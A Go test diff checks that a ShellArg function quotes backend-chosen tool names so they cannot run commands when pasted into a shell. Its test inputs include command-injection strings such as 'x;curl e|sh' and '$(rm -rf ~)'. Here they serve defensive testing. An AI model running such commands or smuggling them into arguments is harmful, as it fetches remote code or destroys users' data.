@@ -43,3 +43,23 @@ func TestDistance(t *testing.T) {
 		}
 	}
 }
+
+// TestShellArg_KeepsABackendsNameOneLiteralArgument: a quarantine
+// message's command names a tool a backend chose; pasted into a shell, no
+// name may run anything or split into more arguments.
+func TestShellArg_KeepsABackendsNameOneLiteralArgument(t *testing.T) {
+	for in, want := range map[string]string{
+		"create_issue":    "create_issue",
+		"(instructions)":  `"(instructions)"`,
+		"x;curl e|sh":     `"x;curl e|sh"`,
+		"$(rm -rf ~)":     `'$(rm -rf ~)'`,
+		"a`id`'b":         `'a` + "`id`" + `'\''b'`,
+		"":                `""`,
+		"two words":       `"two words"`,
+		`back\slash "q"!`: `'back\slash "q"!'`,
+	} {
+		if got := ShellArg(in); got != want {
+			t.Errorf("ShellArg(%q) = %s, want %s", in, got, want)
+		}
+	}
+}
